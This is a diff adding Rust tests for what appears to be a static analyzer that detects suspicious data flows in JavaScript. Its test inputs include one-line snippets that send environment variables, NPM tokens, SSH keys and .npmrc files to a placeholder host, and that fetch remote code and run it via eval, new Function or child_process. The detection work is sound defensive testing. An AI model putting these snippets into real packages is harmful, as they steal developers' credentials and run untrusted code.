@@ -226,3 +226,61 @@ fn a_file_that_does_not_parse_is_text_and_says_so() {
         );
     }
 }
+
+fn flows(code: &str) -> Vec<String> {
+    of(FactKind::Flow, code).into_iter().map(|(name, _)| name).collect()
+}
+
+#[test]
+fn what_flows_is_followed() {
+    let cases: &[(&str, &[&str])] = &[
+        ("fetch('https://a.invalid', { method: 'POST', body: JSON.stringify(process.env) })", &["env-all->net"]),
+        ("const e = process.env; const b = JSON.stringify({ e }); fetch('https://a.invalid?' + b)", &["env-all->net"]),
+        ("const { NPM_TOKEN } = process.env; fetch('https://a.invalid/' + NPM_TOKEN)", &["env-secret->net"]),
+        ("fetch(process.env.NODE_ENV)", &["env->net"]),
+        (
+            "const https = require('https'), os = require('os'); const r = https.request({ host: 'a.invalid' }); r.write(os.hostname()); r.end()",
+            &["host->net"],
+        ),
+        (
+            "const fs = require('fs'), os = require('os'), path = require('path');
+             const key = fs.readFileSync(path.join(os.homedir(), '.ssh', 'id_rsa'), 'utf8'); fetch('https://a.invalid', { body: key })",
+            &["secret-file->net"],
+        ),
+        ("fetch('https://a.invalid').then(r => r.text()).then(t => eval(t))", &["net->dynamic-code"]),
+        ("const r = await fetch('https://a.invalid'); const t = await r.text(); new Function(t)()", &["net->dynamic-code"]),
+        (
+            "require('https').get('https://a.invalid', res => { let b = ''; res.on('data', d => b += d); res.on('end', () => eval(b)) })",
+            &["net->dynamic-code"],
+        ),
+        ("eval(Buffer.from(x, 'base64').toString())", &["decoded->dynamic-code"]),
+        ("eval(atob(x))", &["decoded->dynamic-code"]),
+        ("const cp = require('child_process'); fetch('https://a.invalid').then(async r => cp.exec(await r.text()))", &["net->process"]),
+        ("require('https').get('https://a.invalid', r => r.pipe(require('fs').createWriteStream('x')))", &["net->fs-write"]),
+        ("function send(d) { fetch('https://a.invalid', { body: d }) } send(JSON.stringify(process.env))", &["env-all->net"]),
+        ("function get() { return process.env } fetch('https://a.invalid', { body: get() })", &["env-all->net"]),
+        ("require('fs').readFile('/root/.npmrc', (e, d) => fetch('https://a.invalid', { body: d }))", &["secret-file->net"]),
+        ("require('dns').lookup(require('os').hostname() + '.a.invalid')", &["host->dns"]),
+        ("const out = []; out.push(process.env); fetch('https://a.invalid', { body: out })", &["env-all->net"]),
+    ];
+    for (code, expected) in cases {
+        let found = flows(code);
+        assert!(expected.iter().all(|flow| found.iter().any(|f| f == flow)), "{code}\n  gives {found:?}");
+    }
+}
+
+#[test]
+fn what_does_not_flow_is_not_reported() {
+    for code in [
+        "require('child_process').spawn('ls', [], { env: process.env })",
+        "require('child_process').spawn('ls', { env: { ...process.env } })",
+        "const o = { env: process.env, url: 'https://a.invalid' }; fetch(o.url)",
+        "const e = process.env; fetch('https://a.invalid')",
+        "const cfg = load(process.env); fetch(cfg.url)",
+        "fetch('https://a.invalid').then(r => r.json())",
+        "if (process.env.CI) fetch('https://a.invalid')",
+        "eval('1 + 1')",
+    ] {
+        assert_eq!(flows(code), Vec::<String>::new(), "{code}");
+    }
+}
